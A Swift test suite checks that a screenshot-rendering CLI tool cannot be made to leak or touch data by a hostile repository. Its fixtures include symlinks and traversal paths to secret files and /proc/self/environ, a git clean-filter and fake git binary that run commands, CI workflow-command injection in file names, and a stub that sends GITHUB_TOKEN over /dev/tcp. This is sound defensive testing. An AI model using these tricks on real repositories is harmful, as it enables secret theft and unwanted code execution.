import Foundation
import Glibc
import TestSupport
import Testing

/// A repository of a stranger, one trap each: commands that read it send nothing, start nothing, print nothing
/// of the user's files, environment or standard input, and write nothing beside it.
@Suite(.serialized, .besideOthers) struct HostileRepositoryTests {

  struct Trap: Sendable, CustomTestStringConvertible {

    var testDescription: String

    /// Shell commands that write the repository, which is the working folder.
    var files: String

    /// A shell command, with the program as `$K`.
    var command: String

    var exitCode: Int32

    var says: String

    init(
      _ name: String, _ files: String, _ command: String = "$K snapshot verify s",
      _ exitCode: Int32 = 2, says: String = "[system/outside-project]"
    ) {
      testDescription = name
      (self.files, self.command, self.exitCode, self.says) = (files, command, exitCode, says)
    }
  }

  private static func aCase(_ arguments: String) -> String { "echo '\(arguments)' > s/a.args" }

  private static func lines(_ arguments: String) -> String { "echo '\(arguments)' > lines" }

  private static func theme(_ member: String) -> String {
    #"echo '{"formatVersion": 1, \#(member)}' > a.json"#
  }

  private static func screens(_ keyboard: String, _ own: String = "", strings: String = "words")
    -> String
  {
    #"mkdir words; echo '{"a": {"title": "A"}}' > words/en-US.json; echo '{"languages": ["en-US"], "#
      + #""devices": ["iphone-6.9-1260"], "strings": "\#(strings)", "keyboard": {\#(keyboard)}, "#
      + #""screens": [{"id": "a", "template": "bare"\#(own)}]}' > a.json"#
  }

  private static let asks = "--type hi --remote service.json"
  private static let draws = "$K screens a.json -o pictures"

  private static let sending: [Trap] = [
    Trap("a case that asks a service", "\(aCase(asks))"),
    Trap("an animation that asks a service", "\(aCase("type hi --remote service.json"))"),
    Trap("a case that allows a variable", aCase("--type hi --allow-env GITHUB_TOKEN")),
    Trap("a matrix", "echo '\(asks) --locale {en,de}' > s/a.matrix"),
    Trap("a batch", "\(lines("\(asks) -o a.png"))", "$K --batch lines"),
    Trap("a batch of a pipe", "", "echo '\(asks) -o a.png' | $K --batch -"),
    Trap(
      "screens", "\(screens(#""type": "hi", "remote": "service.json""#))", draws),
    Trap(
      "a screen",
      "\(screens("", #", "keyboard": {"allow-env": "GITHUB_TOKEN"}"#))", draws),
  ]

  private static let reading: [Trap] = [
    Trap("a case that is a link", "ln -s ../../secret s/a.args"),
    Trap("a matrix that is a link", "ln -s ../../secret s/a.matrix"),
    Trap("digests that are a link", "ln -s ../../secret s/a.hashes; \(aCase("--scale 0.5"))"),
    Trap("settings that are a link", "ln -sf ../../secret s/snapshots.json; \(aCase(""))"),
    Trap("a manifest that is a link", "ln -s ../../secret s/manifest.json; \(aCase(""))"),
    Trap("a golden that is a link", "ln -s ../../secret s/a.json; \(aCase("--emit layout"))"),
    Trap("a theme outside", aCase("-t ../../secret.json")),
    Trap("a theme of an absolute path", aCase("-t /proc/self/environ/../environ")),
    Trap("a theme in a pack outside", aCase("-t ../../secret.kbtheme/a.json")),
    Trap("a locale of the environment", aCase("--locale /proc/self/environ")),
    Trap("gestures outside", aCase("--gestures ../../secret.json")),
    Trap("a conversation outside", aCase("--screen --chat ../../secret.json")),
    Trap("items outside", aCase("--toolbar-items ../../secret.json")),
    Trap("a backdrop outside", aCase("--screen --backdrop ../../secret.png")),
    Trap("fonts outside", aCase("--fonts ../../fonts")),
    Trap(
      "a link to a file outside",
      "ln -s ../secret.json b.json; \(aCase("--screen --chat ../b.json"))"),
    Trap(
      "settings of git", "mkdir .git; cp ../secret .git/config; \(aCase("-t ../.git/config"))"),
    Trap(
      "themes of settings outside", #"echo '{"themes": "../.."}' > s/snapshots.json; \#(aCase(""))"#
    ),
    Trap("a batch that reads outside", lines("-t ../secret.json -o a.png"), "$K --batch lines"),
    Trap("screens of a theme outside", screens(#""theme": "../secret.json""#), draws),
    Trap("screens of texts outside", screens("", strings: ".."), draws),
    Trap(
      "a screen before an image outside",
      screens("", #", "background": {"picture": "../secret.png"}"#), draws),
    Trap(
      "a theme that extends a file outside", theme(#""extends": "../secret.json""#),
      "$K -t ./a.json -o a.png", says: "outside of the theme"),
    Trap(
      "an image that is a link outside",
      "ln -s ../secret.png b.png; \(theme(#""background": {"image": "./b.png"}"#))",
      "$K -t ./a.json -o a.png", says: "outside of the theme"),
  ]

  private static let waiting: [Trap] =
    [
      "-t -", "--screen --chat -", "--screen --chat /dev/stdin", "--gestures /dev/fd/0",
      "--screen --backdrop /dev/fd/0", "type hi --locale-file -",
    ].map { Trap("standard input by \($0)", aCase($0)) } + [
      Trap(
        "a batch that reads standard input", lines("--gestures /dev/stdin -o a.png"),
        "$K --batch lines"),
      Trap("screens of standard input", screens(#""theme": "-""#), draws),
      Trap(
        "a pipe that looks like a stream", "mkfifo pipe",
        "$K -t /dev/fd/../../..$PWD/pipe -o a.png", says: "pipe or device"),
    ]

  private static let writing: [Trap] = [
    Trap("a batch that writes outside", lines("-o ../out.png"), "$K --batch lines"),
    Trap("a batch of an absolute path", lines("-o /tmp/kbrender-out.png"), "$K --batch lines"),
    Trap(
      "a batch that writes settings of git", "mkdir .git; \(lines("-o .git/a.png"))",
      "$K --batch lines"),
    Trap(
      "a batch that writes through a folder", "ln -s .. out; \(lines("-o out/a.png"))",
      "$K --batch lines"),
    Trap(
      "a batch that writes through a link", "ln -s ../secret.png a.png; \(lines("-o a.png"))",
      "$K --batch lines"),
    Trap(
      "a batch that writes through a link to a missing file",
      "ln -s ../new.png a.png; \(lines("--scale 0.5 -o a.png"))", "$K --batch lines", 0, says: ""),
    Trap(
      "a golden that is a link to write", "ln -s ../../secret.png s/a.png; \(aCase("--scale 0.5"))",
      "$K snapshot record s --all"),
    Trap(
      "a folder that is a link", "ln -s ../.. s/b; \(aCase("--scale 0.5"))",
      "$K snapshot verify s", 1, says: "aren't followed"),
    Trap(
      "a pack that writes outside",
      "mkdir imgs; $K --scale 0.5 -o imgs/abc.png; \(theme(#""background": {"image": "./imgs/abc.png"}"#)); "
        + "echo '{\"id\": \"com.example.a\", \"version\": \"1.0.0\", \"license\": \"MIT\"}' > a.pack.json; $K theme pack make a.json -o a.kbtheme; LC_ALL=C sed -i s#imgs/abc.png#../../ab.png# a.kbtheme",
      "$K theme pack unpack a.kbtheme", says: "[system/invalid-archive]"),
  ]

  private static let printing: [Trap] = [
    Trap(
      "a command as a name", "echo > 's/::add-mask::x.args'", "$K snapshot verify s", 2,
      says: "| ::"),
    Trap(
      "an old command as a name", "echo > 's/a ##[add-mask]x.args'", "$K snapshot verify s", 2,
      says: "# #["),
    Trap(
      "an indented command", "echo > \"$(printf 's/\\342\\200\\213 ::stop-commands::x.args')\"",
      "$K snapshot verify s --list", 0, says: "::stop"),
    Trap(
      "a command as a path of a diagnostic",
      "mkdir ::error; mv s ::error; echo -t no > ::error/s/a.args",
      "$K theme check --no-draw ::error/s/snapshots.json", 1, says: "| ::error"),
    Trap(
      "programs of the folder",
      "\(theme(#""name": "A""#)); echo '-t ../a.json --scale 0.5 --locale {en,de}' > s/a.matrix; "
        + "$K snapshot record s; \(theme(#""background": {"color": "red"}"#)); "
        + "printf '#!/bin/sh\\ntouch ../ran' > git; chmod +x git",
      "PATH=.:$PATH $K snapshot verify s", 1, says: "failed"),
    Trap(
      "filters of the repository",
      "\(aCase("--scale 0.5")); git init -q .; git add .; git -c user.name=a -c user.email=a@b commit -qm a; "
        + "echo '* filter=a=b' > .gitattributes; git config 'filter.a=b.clean' 'touch ../ran; cat'; "
        + "sleep 0.1; touch s/a.args",
      "$K snapshot verify s --only-changed HEAD", 0, says: ""),
  ]

  static let traps = sending + reading + waiting + writing + printing

  private static let secrets = ["s3cretWord", "t0kenValue", "1nputWord"]

  @Test(arguments: traps)
  func nothingLeaves(trap: Trap) throws {
    let folder = try ScratchFolder()
    for name in [
      "secret", "secret.json", "secret.png", "secret.kbtheme", "fonts/a.ttf", "en-US.json",
    ] {
      try folder.write("{\"s3cretWord\": root:x:0:0", to: name)
    }
    try folder.write("{}", to: "repository/s/snapshots.json")
    let listener = try Listener()
    let before = try contents(of: folder)
    let prepared = try shell(trap.files, in: folder, listener)
    #expect(prepared.exitCode == 0, "\(prepared.errors)")
    let repository = folder.files
    let run = try shell(
      // Standard input has a word, and doesn't end.
      "mkfifo ../input; exec 9<>../input; echo 1nputWord >&9; exec < ../input; rm ../input; "
        + "timeout -k 1 20 bash -c '\(trap.command.replacing("'", with: "'\\''"))'", in: folder,
      listener)
    let text = run.text + run.errors
    #expect(
      run.exitCode == trap.exitCode && (trap.says.isEmpty || text.contains(trap.says)), "\(text)")
    #expect(!listener.hasConnection, "Something was sent.")
    #expect(try contents(of: folder) == before, "Something was written outside.")
    // A set of pictures has a list of them, also if none can be drawn; a case that fails has artifacts.
    let changed = folder.files.filter {
      !$0.hasPrefix("repository/pictures/") && !$0.hasPrefix("repository/s/.kbrender/")
    }
    if trap.exitCode > 1 { #expect(changed == repository, "Something was written.") }
    let written = Set(folder.files).subtracting(repository).compactMap(folder.read)
    for secret in Self.secrets {
      #expect(!text.contains(secret), "\(text)")
      #expect(!written.contains { $0.range(of: Data(secret.utf8)) != nil })
    }
    for line in text.split(separator: "\n") {
      #expect(!line.drop(while: \.isWhitespace).hasPrefix("::") && !line.contains("##["), "\(line)")
    }
  }

  /// The same options work on the command line, which proves that the traps are noticed.
  @Test func theCommandLineMaySend() throws {
    let (folder, listener) = (try ScratchFolder(), try Listener())
    try folder.write("", to: "repository/a")
    _ = try shell("$K suggest hi --remote service.json", in: folder, listener)
    #expect(listener.hasConnection)
  }

  /// A copy of the program, beside one that sends what it finds in the environment.
  private static let installed = Result {
    let folder = try ScratchFolder()
    _ = try StudioCommandTests.program(in: folder)
    let script = "#!/bin/bash\necho $GITHUB_TOKEN >/dev/tcp/127.0.0.1/$PORT; echo ready; sleep 1"
    try folder.writeProgram(script, to: "libexec/kbrender/kbrender-remote")
    return folder
  }

  private func shell(
    _ command: String, in folder: ScratchFolder, _ listener: Listener
  ) throws -> Program.Run {
    try Program(file: URL(filePath: "/bin/bash")).run(
      ["-c", command], in: folder.url.appending(path: "repository"),
      variables: [
        "K": try Self.installed.get().url.path + "/bin/kbrender", "PORT": "\(listener.port)",
        "GITHUB_TOKEN": "t0kenValue", "GITHUB_ACTIONS": "true",
      ])
  }

  private func contents(of folder: ScratchFolder) throws -> [String: Data] {
    let paths = folder.files.filter { !$0.hasPrefix("repository/") }
    return Dictionary(uniqueKeysWithValues: paths.map { ($0, folder.read($0) ?? Data()) })
  }
}

/// A port of this machine, whose connections nobody accepts.
private final class Listener {

  struct Failure: Error {}

  private let socket: Int32
  let port: UInt16

  init() throws {
    socket = Glibc.socket(AF_INET, Int32(SOCK_STREAM.rawValue) | Int32(SOCK_CLOEXEC.rawValue), 0)
    var address = sockaddr_in()
    address.sin_family = sa_family_t(AF_INET)
    address.sin_addr.s_addr = in_addr_t(0x7F00_0001).bigEndian
    var length = socklen_t(MemoryLayout<sockaddr_in>.size)
    let socket = socket
    let isListening = withUnsafeMutablePointer(to: &address) { pointer in
      pointer.withMemoryRebound(to: sockaddr.self, capacity: 1) {
        bind(socket, $0, length) == 0 && listen(socket, 8) == 0
          && getsockname(socket, $0, &length) == 0
      }
    }
    port = UInt16(bigEndian: address.sin_port)
    guard isListening else { throw Failure() }
  }

  deinit { close(socket) }

  var hasConnection: Bool {
    var request = pollfd(fd: socket, events: Int16(POLLIN), revents: 0)
    return poll(&request, 1, 0) > 0
  }
}
